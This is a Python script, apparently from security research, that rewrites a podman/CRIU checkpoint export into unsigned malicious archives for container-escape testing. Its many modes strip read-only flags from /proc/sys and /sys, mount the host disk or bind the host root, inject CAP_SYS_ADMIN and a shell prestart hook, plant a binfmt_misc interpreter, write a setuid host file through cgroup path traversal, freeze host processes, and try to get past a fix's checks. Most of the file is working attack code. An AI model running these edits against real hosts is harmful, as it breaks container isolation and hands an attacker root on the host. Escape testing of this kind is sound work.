"""attack30g: an edited copy of a real gpuckpt export whose CRIU images (not credentials) are changed.
usage: edit.py SRC OUT MODE     (run with /usr/bin/python3: crit/pycriu are Debian's)
Every mode removes checkpoint/gpuckpt-dump.sig (the images are covered by it: an unsigned dump, which
only restore:any or an archive: exception lets in). spec.dump/config.dump are left as exported.
MODE nosig:     the images unchanged (control: the restore works and the container is as podman made it).
MODE procsysrw: mountpoints: the /proc/sys read-only bind loses MS_RDONLY (flags & ~1).
MODE procsysdel: mountpoints: the /proc/sys bind (podman's readonlyPaths) is removed altogether.
MODE binfmt:    mountpoints: a binfmt_misc mount at /mnt (fstype 4, a new mnt_id and root_dev), and
                checkpoint/binfmt-misc.img registering `attack30g` (extension .attack30g) whose interpreter is
                <podman's userdata of the container>/attack30g-interp, a script shipped at the archive's root.
                (CRIU did not register it on this node: the entry never appeared; the mount is what matters.)
MODE binfmtmnt: the binfmt_misc mount alone (no extra image, no extra archive entry).
MODE cgprop:    cgroup.img: a new child cgroup under the container's hugetlb cgroup with a property named
                ../../(x40)var/tmp/attack30g/victim, value "attack30g-written-by-criu", perms mode 04777 uid 0.
MODE extroot:   mountpoints: the external /dev/shm bind's root = /../../(...) (does CRIU join it to runc's source?).
MODE sysrw:     mountpoints: the /sys mount loses MS_RDONLY (mount and superblock flags).
MODE devtmpfs, debugfs, tracefs, securityfs: mountpoints: a mount of that type at /mnt.
MODE autoext4:  mountpoints: fstype AUTO, fsname ext4, source /dev/vda (the host's root disk) at /mnt.
MODE overlayhost: mountpoints: an overlay at /mnt, options lowerdir=/ (resolved where CRIU mounts it).
attack30g: every mode also sets freezer.state's perms in cgroup.img to 0100644 (CRIU 4.2.1 dumps them uninitialised:
heap bytes, which the fix's set-id check refuses about one dump in four, signed or not; an unsigned dump's author
sets them as they like). New modes (attack30g, bypass attempts against cd54369's checks):
MODE specbind:  spec.dump + a bind of the host's / at /mnt (rbind, rw); mountpoints + an external mount at /mnt
                (ext_key /mnt: runc maps it to the spec's source).
MODE procmnt:   spec.dump + a proc mount at /mnt; mountpoints + a proc mount (root /) at /mnt, read-write.
MODE sysadmin:  spec.dump + CAP_SYS_ADMIN (bounding, effective, permitted); core-*.img creds + CAP_SYS_ADMIN;
                mountpoints + AUTO ext4 /dev/vda at /mnt (autoext4's mount).
MODE cgdev:     cgroup.img: the task set's devices path = "/" (the host's root devices cgroup, all devices allowed);
                /dev's tmpfs image (tmpfs-dev-<id>.tar.gz.img) + a block node attack30g-vda 254:0 (the host disk).
MODE cgprocs:   cgroup.img: a new top-level freezer cgroup attack30g (at the hierarchy's root) whose properties are
                cgroup.procs = $VICTIM_PID (a host process) and freezer.state = FROZEN.
MODE cgprocs2:  as cgprocs in the pids hierarchy with cgroup.procs only (no freezer).
MODE reparent:  mountpoints: the read-only /proc/sys bind keeps its mountpoint but its parent_mnt_id is /dev's (CRIU
                builds the tree by parent ids; mounted before /proc, /proc then covers it?); reparentmq: /dev/mqueue's.
MODE sbro:      mountpoints: the /proc/sys bind's MS_RDONLY taken from its mount flags and put in its sb_flags.
MODE sbrosys:   mountpoints: /sys read-only by its mount flag only (superblock rw), and a sysfs bind of
                /module/printk/parameters at /sys/module/printk/parameters, read-only by sb_flags only.
(cgns_prefix: CRIU 4.2.1's cgroup.proto makes it a uint32, the length of the path's prefix: it names no path of
its own, so no mode for it.)
MODE mntdumper: inventory.img: root_ids.mnt_ns_id = the tasks' (13), so the checker skips mountpoints-13.img;
                spec.dump without a mount namespace; mountpoints + AUTO ext4 /dev/vda at /mnt.
MODE dotpath:   mountpoints: the /proc/sys bind read-write at '/proc//sys/.'.
MODE nestns:    ids-9.img: the child task in mount namespace 14; mountpoints-14.img = 13's with /proc/sys read-write
                (does the checker read a namespace only a child task is in?).
MODE sbrocg:    mountpoints: every external cgroup bind (the container's own cgroups) read-only in sb_flags only.
MODE cgmnt:     mountpoints: the pids cgroup bind (external) moved to /mnt, read-write.
MODE dupro:     mountpoints: a second /proc/sys (proc bind of /sys, read-write) mounted over the read-only one,
                listed before it.
"""
import io, json, os, struct, subprocess, sys, tarfile, tempfile
import zstandard

src, out, mode = sys.argv[1:4]
VICTIM = "/var/tmp/attack30g/victim"  # a host file of root's: CRIU writes its start and chmods it
INTERP = "#!/bin/sh\n{ echo \"HOST ROOT via binfmt_misc: $(id) file=$1\"; readlink /proc/self/ns/mnt; } > /var/tmp/attack30g/binfmt-ran\n"


def crit(data, fn):
    with tempfile.TemporaryDirectory() as d:
        img, js = f"{d}/x.img", f"{d}/x.json"
        if data is not None:
            open(img, "wb").write(data)
            subprocess.run(["crit", "decode", "-i", img, "-o", js], check=True)
            doc = json.load(open(js))
        else:
            doc = None
        doc = fn(doc)
        json.dump(doc, open(js, "w"))
        subprocess.run(["crit", "encode", "-i", js, "-o", img], check=True)
        return open(img, "rb").read()


def binfmt_image(name, interpreter, extension):
    """checkpoint/binfmt-misc.img by hand (pycriu has no handler for it): IMG_COMMON, BINFMT_MISC magics, then
    one length-prefixed binfmt_misc_entry {1 name, 2 enabled, 3 interpreter, 4 flags, 5 extension}."""
    def field(number, value):
        value = value.encode()
        size, n = b"", len(value)
        while True:  # varint length
            size += bytes([(n & 0x7f) | (0x80 if n > 0x7f else 0)]); n >>= 7
            if not n:
                return bytes([number << 3 | 2]) + size + value
    entry = field(1, name) + bytes([2 << 3, 1]) + field(3, interpreter) + field(4, "") + field(5, extension)
    return struct.pack("<III", 0x54564319, 0x67343323, len(entry)) + entry


# mode: (fstype, source, options, fsname) of a mount added at /mnt
EXTRA = {"devtmpfs": (3, "devtmpfs", ""), "debugfs": (11, "debugfs", ""), "tracefs": (19, "tracefs", ""),
         "securityfs": (9, "securityfs", ""),
         "autoext4": (16, "/dev/vda", "", "ext4"),  # AUTO with an fsname: the host's root disk
         "overlayhost": (17, "overlay", "lowerdir=/")}  # an overlay whose lower layer is the restorer's /


def extra_mount(entries, fstype, source, options="", fsname=None):
    root = next(e for e in entries if e["mountpoint"] == "/")
    entries.append({"fstype": fstype, "mnt_id": 777, "root_dev": 0xff309, "parent_mnt_id": root["mnt_id"],
                    "flags": 0x20000e, "root": "/", "mountpoint": "/mnt",
                    "source": source, "options": options, "shared_id": 0, "master_id": 0, "sb_flags": 0})
    if fsname:
        entries[-1]["fsname"] = fsname


def pyc(data, fn):
    """Decode/encode with gpuckpt's own pycriu (CRIU 4.2.1's messages): Debian's crit drops fields it lacks."""
    sys.path.insert(0, "/opt/gpuckpt/criu/usr/lib/python3/dist-packages")
    import pycriu
    doc = fn(pycriu.images.loads(data))
    out = io.BytesIO(); pycriu.images.dump(doc, out); return out.getvalue()


SELF = ("selfdd", "selfddrun", "selfvol", "selflink", "selfproc")
DEV = ("devrule", "devlist")
NS = DEV + ("nsnet", "nsmnt", "nsuts", "nsipc", "nspid", "nsuser", "hook")
def spec_edit(spec):
    if mode == "selfdd":  # the container's own userdata (root's, not movable) climbed out of with '..'
        spec["mounts"].append({"destination": "/mnt", "type": "bind", "source": ud + "/../../../../../../..", "options": ["rbind", "rw"]})
    elif mode == "selfddrun":
        spec["mounts"].append({"destination": "/mnt", "type": "bind", "source": f"/run/containers/storage/overlay-containers/{cid}/userdata/../../../../../..", "options": ["rbind", "rw"]})
    elif mode == "selfvol":  # another container's named volume, not in config.dump's namedVolumes
        spec["mounts"].append({"destination": "/mnt", "type": "bind", "source": "/var/lib/containers/storage/volumes/attack30g-victimvol/_data", "options": ["rbind", "rw"]})
    elif mode == "selfproc":  # the host's /proc/sys (runc resolves the source in the host's mount namespace)
        spec["mounts"].append({"destination": "/mnt/sys", "type": "bind", "source": ud + "/../../../../../../../proc/sys", "options": ["rbind", "rw"]})
    elif mode == "selflink":  # a link the archive itself puts in the userdata directory (podman untars it there)
        spec["mounts"].append({"destination": "/mnt", "type": "bind", "source": ud + "/attack30g-link/.", "options": ["rbind", "rw"]})
    elif mode in ("nsmnt", "nsuts", "nsipc", "nspid", "nsuser", "nsnet"):
        kind = {"nsnet": "network", "nsmnt": "mount", "nsuts": "uts", "nsipc": "ipc", "nspid": "pid", "nsuser": "user"}[mode]
        path = "/proc/self/ns/" + {"mount": "mnt", "network": "net"}.get(kind, kind)
        spec["linux"]["namespaces"] = [n for n in spec["linux"]["namespaces"] if n["type"] != kind] + [{"type": kind, "path": path}]
        if mode == "nsnet":  # runc refuses net.* sysctls in the host's network namespace
            spec["linux"].pop("sysctl", None)
    elif mode == "devrule":  # every device allowed in the devices cgroup (podman run denies all but its list)
        spec["linux"]["resources"]["devices"] = [{"allow": True, "access": "rwm"}]
    elif mode == "hook":
        spec.setdefault("hooks", {})["prestart"] = [{"path": "/bin/sh", "args": ["sh", "-c", "id > /var/tmp/attack30g/hook-ran"]}]
        spec["hooks"]["createRuntime"] = spec["hooks"]["prestart"]
    elif mode == "specbind":
        spec["mounts"].append({"destination": "/mnt", "type": "bind", "source": "/", "options": ["rbind", "rw"]})
    elif mode == "procmnt":
        spec["mounts"].append({"destination": "/mnt", "type": "proc", "source": "proc", "options": []})
    elif mode == "mntdumper":
        spec["linux"]["namespaces"] = [n for n in spec["linux"]["namespaces"] if n["type"] != "mount"]
        spec["linux"]["maskedPaths"], spec["linux"]["readonlyPaths"] = [], []  # runc: none without a mount ns
    elif mode == "sysadmin":
        for key in ("bounding", "effective", "permitted"):
            spec["process"]["capabilities"][key].append("CAP_SYS_ADMIN")
    return spec


def core_edit(doc):
    creds = doc["entries"][0]["thread_core"]["creds"]
    for key in ("cap_prm", "cap_eff", "cap_bnd"):
        creds[key][0] |= 1 << 21  # CAP_SYS_ADMIN
    return doc


def freezer_perms(doc):
    for controller in doc["entries"][0]["controllers"]:
        for d in controller.get("dirs", []):
            for p in d.get("properties", []):
                if p["name"] == "freezer.state" and "perms" in p:
                    p["perms"] = {"mode": 0o100644, "uid": 0, "gid": 0}
    if mode == "devlist":  # the container's own devices cgroup: devices.list = every device (CRIU writes it back?)
        for controller in doc["entries"][0]["controllers"]:
            if "devices" in controller["cnames"]:
                for d in controller.get("dirs", []):
                    def walk(d):
                        for p in d.get("properties", []):
                            if p["name"] == "devices.list":
                                print("devices.list was", repr(p["value"])[:200], file=sys.stderr); p["value"] = "a *:* rwm\n"
                        for c in d.get("children", []):
                            walk(c)
                    walk(d)
    if mode == "cgdev":
        for cg_set in doc["entries"][0]["sets"]:
            for ctl in cg_set["ctls"]:
                if ctl["name"] == "devices":
                    ctl["path"] = "/"
    if mode in ("cgprocs", "cgprocs2"):
        want = "freezer" if mode == "cgprocs" else "pids"
        props = [{"name": "cgroup.procs", "value": os.environ["VICTIM_PID"]}]
        if mode == "cgprocs":
            props.append({"name": "freezer.state", "value": "FROZEN"})
        for controller in doc["entries"][0]["controllers"]:
            if controller["cnames"] == [want]:
                controller["dirs"].append({"dir_name": "attack30g", "properties": props})
    return doc



def ids_nested(doc):
    doc["entries"][0]["mnt_ns_id"] = 14  # the child task (sh's sleep) in a mount namespace of its own
    return doc


def inventory_edit(doc):
    doc["entries"][0]["root_ids"]["mnt_ns_id"] = 13  # the tasks' mount namespace named the dumper's
    return doc


def dev_tar(data):
    import gzip
    raw = gzip.decompress(data)
    with tarfile.open(fileobj=io.BytesIO(raw)) as t:
        items = [(m, t.extractfile(m).read() if m.isfile() else None) for m in t]
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w", format=tarfile.GNU_FORMAT) as t:
        for m, d in items:
            t.addfile(m, io.BytesIO(d) if d is not None else None)
        node = tarfile.TarInfo("./attack30g-vda"); node.type = tarfile.BLKTYPE
        node.devmajor, node.devminor, node.mode = 254, 0, 0o600
        t.addfile(node)
    return gzip.compress(buf.getvalue())


def mounts(doc):
    entries = doc["entries"]
    if mode in ("specbind",) + SELF:
        root = next(e for e in entries if e["mountpoint"] == "/")
        entries.append({"fstype": 0, "mnt_id": 777, "root_dev": 254 << 20, "options": "", "parent_mnt_id": root["mnt_id"],
                        "flags": 0x200000, "root": "/", "mountpoint": "/mnt/sys" if mode == "selfproc" else "/mnt", "source": "/dev/vda",
                        "shared_id": 0, "master_id": 0, "sb_flags": 0, "ext_key": "/mnt/sys" if mode == "selfproc" else "/mnt"})
    elif mode == "procmnt":
        extra_mount(entries, 1, "proc")
    elif mode in ("sysadmin", "mntdumper"):
        extra_mount(entries, *EXTRA["autoext4"])
    elif mode in ("reparent", "reparentmq"):  # the read-only /proc/sys bind hung below /dev (or /dev/mqueue)
        ro = next(e for e in entries if e["mountpoint"] == "/proc/sys")
        ro["parent_mnt_id"] = next(e["mnt_id"] for e in entries
                                   if e["mountpoint"] == ("/dev" if mode == "reparent" else "/dev/mqueue"))
    elif mode == "sbro":  # /proc/sys: the mount's MS_RDONLY moved to sb_flags (a bind makes no superblock of its own)
        for e in entries:
            if e["mountpoint"] == "/proc/sys":
                e["flags"], e["sb_flags"] = e["flags"] & ~1, e["sb_flags"] | 1
    elif mode == "sbrocg":  # the container's own cgroup binds (external): MS_RDONLY only in sb_flags
        for e in entries:
            if e["fstype"] == 12 and "ext_key" in e:
                e["flags"], e["sb_flags"] = e["flags"] & ~1, e["sb_flags"] | 1
    elif mode == "cgmnt":  # the pids cgroup bind (external) moved to /mnt, read-write: outside the spec's ro cgroup mount
        root = next(e for e in entries if e["mountpoint"] == "/")
        for e in entries:
            if e["mountpoint"] == "/sys/fs/cgroup/pids":
                e["mountpoint"], e["parent_mnt_id"], e["flags"] = "/mnt", root["mnt_id"], e["flags"] & ~1
    elif mode == "sbrosys":  # /sys's superblock made rw (read-only by its mount flag only), a sysfs bind under it
        # read-only by sb_flags only: CRIU binds it from the rw superblock
        sysfs = next(e for e in entries if e["mountpoint"] == "/sys")
        sysfs["flags"], sysfs["sb_flags"] = sysfs["flags"] | 1, sysfs["sb_flags"] & ~1
        entries.append(dict(sysfs, mnt_id=779, parent_mnt_id=sysfs["mnt_id"], root="/module/printk/parameters",
                            mountpoint="/sys/module/printk/parameters", flags=sysfs["flags"] & ~1, sb_flags=1))
    elif mode == "dotpath":  # /proc/sys read-write under a spelling of its own
        for e in entries:
            if e["mountpoint"] == "/proc/sys":
                e["mountpoint"], e["flags"] = "/proc//sys/.", e["flags"] & ~1
    elif mode == "dupro":
        ro = next(e for e in entries if e["mountpoint"] == "/proc/sys")
        dup = dict(ro, mnt_id=778, parent_mnt_id=ro["mnt_id"], flags=0x20000e)
        entries.insert(0, dup)
    if mode == "procsysrw":
        for e in entries:
            if e["mountpoint"] == "/proc/sys":
                e["flags"] = e["flags"] & ~1  # MS_RDONLY
    elif mode == "procsysdel":
        doc["entries"] = [e for e in entries if e["mountpoint"] != "/proc/sys"]
    elif mode in ("binfmt", "binfmtmnt"):
        extra_mount(entries, 4, "binfmt_misc")
    elif mode == "sysrw":
        for e in entries:
            if e["mountpoint"] == "/sys":
                e["flags"], e["sb_flags"] = e["flags"] & ~1, e.get("sb_flags", 0) & ~1
    elif mode == "extroot":  # the external /dev/shm bind (runc gives its source) with a root climbing out of it
        for e in entries:
            if e["mountpoint"] == "/dev/shm":
                e["root"] = "/../../../../../../../../.."
    elif mode in EXTRA:
        extra_mount(entries, *EXTRA[mode])
    return doc


def cgroups(doc):
    """A new child cgroup `attack30g` under the container's hugetlb cgroup (CRIU creates it, soft mode, and then
    writes its properties) whose one property's name climbs out of CRIU's cgroup yard to a host file."""
    for controller in doc["entries"][0]["controllers"]:
        if controller["cnames"] == ["hugetlb"]:
            controller["dirs"][0].setdefault("children", []).append({
                "dir_name": "attack30g", "dir_perms": {"mode": 0o40755, "uid": 0, "gid": 0},
                "properties": [{"name": "../" * 40 + VICTIM.lstrip("/"), "value": "attack30g-written-by-criu",
                                "perms": {"mode": 0o104777, "uid": 0, "gid": 0}}]})
    return doc


with open(src, "rb") as raw, zstandard.ZstdDecompressor().stream_reader(raw) as s, tarfile.open(fileobj=s, mode="r|") as tin:
    members = [(m, tin.extractfile(m).read() if m.isfile() else None) for m in tin]
cid = next(json.loads(d)["id"] for m, d in members if m.name == "config.dump")
# /dev's tmpfs: the mount at /dev in the mount image, its content image by mnt_id
_mnt = next(d for m, d in members if m.name.startswith("checkpoint/mountpoints-"))
sys.path.insert(0, "/opt/gpuckpt/criu/usr/lib/python3/dist-packages")
import pycriu, re
DEVTAR = "checkpoint/tmpfs-dev-%d.tar.gz.img" % next(  # named by the tmpfs's device (kdev: minor in the low 20 bits)
    e["root_dev"] & 0xfffff for e in pycriu.images.loads(_mnt)["entries"] if e["mountpoint"] == "/dev")
ud = f"/var/lib/containers/storage/overlay-containers/{cid}/userdata"
with open(out, "wb") as sink, zstandard.ZstdCompressor().stream_writer(sink) as comp, \
        tarfile.open(fileobj=comp, mode="w|", format=tarfile.PAX_FORMAT) as tout:
    for m, data in members:
        if m.name == "checkpoint/gpuckpt-dump.sig":
            continue
        NEW = SELF + NS + ("dotpath", "nestns", "mntdumper", "sbrosys", "sbrocg", "cgmnt", "sbro", "reparent", "reparentmq", "specbind", "procmnt", "sysadmin", "cgdev", "cgprocs", "cgprocs2", "dupro")
        if m.name.startswith("checkpoint/mountpoints-") and mode in SELF + ("specbind", "procmnt", "sysadmin", "dupro", "reparent", "sbro", "sbrosys", "mntdumper", "dotpath", "sbrocg", "cgmnt",
                                                                      "reparentmq"):
            data = pyc(data, mounts)
        elif m.name.startswith("checkpoint/mountpoints-") and mode not in ("nosig", "cgprop") + NEW:
            data = crit(data, mounts)
        if m.name == "checkpoint/cgroup.img" and mode == "cgprop":
            data = crit(data, cgroups)
        if m.name == "checkpoint/cgroup.img":
            data = pyc(data, freezer_perms)
        if m.name == "spec.dump" and mode in NEW:
            data = json.dumps(spec_edit(json.loads(data))).encode()
        if re.fullmatch(r"checkpoint/core-[0-9]+\.img", m.name) and mode == "sysadmin":
            data = pyc(data, core_edit)
        if m.name == "checkpoint/ids-9.img" and mode == "nestns":
            data = pyc(data, ids_nested)
        if m.name.startswith("checkpoint/mountpoints-") and mode == "nestns":  # 14: 13's with /proc/sys read-write
            def rw(doc):
                for e in doc["entries"]:
                    if e["mountpoint"] == "/proc/sys":
                        e["flags"] &= ~1
                return doc
            info = tarfile.TarInfo("checkpoint/mountpoints-14.img"); nested = pyc(data, rw)
            info.size, info.mode = len(nested), 0o600; tout.addfile(info, io.BytesIO(nested))
        if m.name == "checkpoint/inventory.img" and mode == "mntdumper":
            data = pyc(data, inventory_edit)
        if m.name == DEVTAR and mode in ("cgdev",) + DEV:
            data = dev_tar(data)
        if data is not None:
            m.size = len(data); tout.addfile(m, io.BytesIO(data))
        else:
            tout.addfile(m)
    if mode == "selflink":
        info = tarfile.TarInfo("attack30g-link"); info.type, info.linkname = tarfile.SYMTYPE, "/"
        tout.addfile(info)
    if mode == "binfmt":
        data = binfmt_image(name="attack30g", interpreter=f"{ud}/attack30g-interp", extension="attack30g")
        info = tarfile.TarInfo("checkpoint/binfmt-misc.img"); info.size, info.mode = len(data), 0o644
        tout.addfile(info, io.BytesIO(data))
        data = INTERP.encode()
        info = tarfile.TarInfo("attack30g-interp"); info.size, info.mode = len(data), 0o755
        tout.addfile(info, io.BytesIO(data))
print(out, cid)
